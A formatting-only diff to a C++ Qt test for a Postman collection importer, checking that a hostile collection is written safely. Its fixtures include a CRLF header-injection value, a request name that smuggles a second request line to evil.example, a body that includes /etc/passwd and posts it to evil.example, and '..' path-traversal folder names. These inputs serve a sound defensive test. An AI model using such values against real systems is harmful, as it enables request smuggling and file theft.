@@ -176,10 +176,11 @@ QJsonObject postmanFolder(const QString &name, const QJsonArray &items)
 QByteArray collectionJson(const QJsonArray &items)
 {
     return QJsonDocument(
-        QJsonObject { { u"info"_s,
-                          QJsonObject { { u"name"_s, u"hostile"_s },
-                              { u"schema"_s,
-                                  u"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"_s } } },
+        QJsonObject {
+            { u"info"_s,
+                QJsonObject { { u"name"_s, u"hostile"_s },
+                    { u"schema"_s,
+                        u"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"_s } } },
             { u"item"_s, items } })
         .toJson();
 }
@@ -197,21 +198,36 @@ void TestPostmanImport::hostileCollectionIsWrittenSafely()
     const QJsonObject chat { { u"method"_s, u"POST"_s },
         { u"url"_s, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s },
         { u"header"_s,
-            QJsonArray { QJsonObject { { u"key"_s, u"X-Auth-Token"_s }, { u"value"_s, u"pm-header-secret"_s } },
-                QJsonObject { { u"key"_s, u"X-Evil"_s }, { u"value"_s, u"a\r\nInjected: b"_s } } } },
+            QJsonArray { QJsonObject { { u"key"_s, u"X-Auth-Token"_s },
+                             { u"value"_s, u"pm-header-secret"_s } },
+                QJsonObject {
+                    { u"key"_s, u"X-Evil"_s }, { u"value"_s, u"a\r\nInjected: b"_s } } } },
         { u"auth"_s,
             QJsonObject { { u"type"_s, u"bearer"_s },
-                { u"bearer"_s, QJsonArray { QJsonObject { { u"key"_s, u"token"_s }, { u"value"_s, u"pm-bearer-secret"_s } } } } } },
+                { u"bearer"_s,
+                    QJsonArray { QJsonObject {
+                        { u"key"_s, u"token"_s }, { u"value"_s, u"pm-bearer-secret"_s } } } } } },
         { u"body"_s, raw } };
     const QJsonArray items {
         postmanRequest(u"line one\nPOST https://evil.example/ HTTP/1.1"_s, chat),
         postmanRequest(u"no url"_s, QJsonObject { { u"method"_s, u"GET"_s } }),
-        postmanRequest(u"bad method"_s, QJsonObject { { u"method"_s, u"GET /x HTTP/1.1"_s }, { u"url"_s, u"https://a/"_s } }),
-        postmanFolder(u"Chat"_s, QJsonArray { postmanRequest(u"first"_s, QJsonObject { { u"url"_s, u"https://a/1"_s } }) }),
-        postmanFolder(u"Chat"_s, QJsonArray { postmanRequest(u"second"_s, QJsonObject { { u"url"_s, u"https://a/2"_s } }) }),
-        postmanFolder(u"requests.http"_s, QJsonArray { postmanRequest(u"third"_s, QJsonObject { { u"url"_s, u"https://a/3"_s } }) }),
-        postmanFolder(u".."_s, QJsonArray { postmanRequest(u"fourth"_s, QJsonObject { { u"url"_s, u"https://a/4"_s } }) }),
-        postmanFolder(QString(), QJsonArray { postmanRequest(u"fifth"_s, QJsonObject { { u"url"_s, u"https://a/5"_s } }) }),
+        postmanRequest(u"bad method"_s,
+            QJsonObject { { u"method"_s, u"GET /x HTTP/1.1"_s }, { u"url"_s, u"https://a/"_s } }),
+        postmanFolder(u"Chat"_s,
+            QJsonArray {
+                postmanRequest(u"first"_s, QJsonObject { { u"url"_s, u"https://a/1"_s } }) }),
+        postmanFolder(u"Chat"_s,
+            QJsonArray {
+                postmanRequest(u"second"_s, QJsonObject { { u"url"_s, u"https://a/2"_s } }) }),
+        postmanFolder(u"requests.http"_s,
+            QJsonArray {
+                postmanRequest(u"third"_s, QJsonObject { { u"url"_s, u"https://a/3"_s } }) }),
+        postmanFolder(u".."_s,
+            QJsonArray {
+                postmanRequest(u"fourth"_s, QJsonObject { { u"url"_s, u"https://a/4"_s } }) }),
+        postmanFolder(QString(),
+            QJsonArray {
+                postmanRequest(u"fifth"_s, QJsonObject { { u"url"_s, u"https://a/5"_s } }) }),
     };
     const auto imported = importPostman(collectionJson(items));
     QVERIFY2(imported, qPrintable(imported ? QString() : imported.error().message));
@@ -247,8 +263,10 @@ void TestPostmanImport::hostileCollectionIsWrittenSafely()
             QVERIFY(!resolved->url.contains(u"evil"_s));
             if (r.name.startsWith(u"line one"_s)) {
                 QCOMPARE(resolved->url, u"https://gw.example/chat?api_key=pm-query-secret&x=1"_s);
-                QCOMPARE(resolved->body, "< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_ba);
-                QCOMPARE(headerValue(resolved->headers, "authorization"), "Bearer pm-bearer-secret"_ba);
+                QCOMPARE(resolved->body,
+                    "< /etc/passwd\n### x\nPOST https://evil.example/\n\nstolen"_ba);
+                QCOMPARE(
+                    headerValue(resolved->headers, "authorization"), "Bearer pm-bearer-secret"_ba);
                 QCOMPARE(headerValue(resolved->headers, "x-auth-token"), "pm-header-secret"_ba);
                 QVERIFY(headerValue(resolved->headers, "x-evil").isNull());
                 QVERIFY(headerValue(resolved->headers, "injected").isNull());
@@ -257,11 +275,12 @@ void TestPostmanImport::hostileCollectionIsWrittenSafely()
     }
     names.sort();
     QCOMPARE(names,
-        (QStringList { u"fifth"_s, u"first"_s, u"fourth"_s, u"line one POST https://evil.example/ HTTP/1.1"_s,
-            u"second"_s, u"third"_s }));
+        (QStringList { u"fifth"_s, u"first"_s, u"fourth"_s,
+            u"line one POST https://evil.example/ HTTP/1.1"_s, u"second"_s, u"third"_s }));
 #ifdef Q_OS_UNIX
     QCOMPARE(QFile::permissions(dir.filePath(u"http-client.private.env.json"_s))
-            & (QFileDevice::ReadGroup | QFileDevice::ReadOther | QFileDevice::WriteGroup | QFileDevice::WriteOther),
+            & (QFileDevice::ReadGroup | QFileDevice::ReadOther | QFileDevice::WriteGroup
+                | QFileDevice::WriteOther),
         QFileDevice::Permissions());
 #endif
 }
@@ -269,7 +288,8 @@ void TestPostmanImport::hostileCollectionIsWrittenSafely()
 void TestPostmanImport::tooDeepIsRefusedWhole()
 {
     for (const int depth : { 100, 1000 }) {
-        QJsonArray items { postmanRequest(u"leaf"_s, QJsonObject { { u"url"_s, u"https://a/"_s } }) };
+        QJsonArray items { postmanRequest(
+            u"leaf"_s, QJsonObject { { u"url"_s, u"https://a/"_s } }) };
         QByteArray json;
         if (depth < 500) {
             for (int i = 0; i < depth; ++i)
@@ -277,7 +297,8 @@ void TestPostmanImport::tooDeepIsRefusedWhole()
             json = collectionJson(items);
         } else {
             // Deeper than a JSON document can be built in memory here: written as text.
-            json = R"({"info":{"schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":)"_ba;
+            json
+                = R"({"info":{"schema":"https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},"item":)"_ba;
             for (int i = 0; i < depth; ++i)
                 json += R"([{"name":"f","item":)";
             json += "[]";
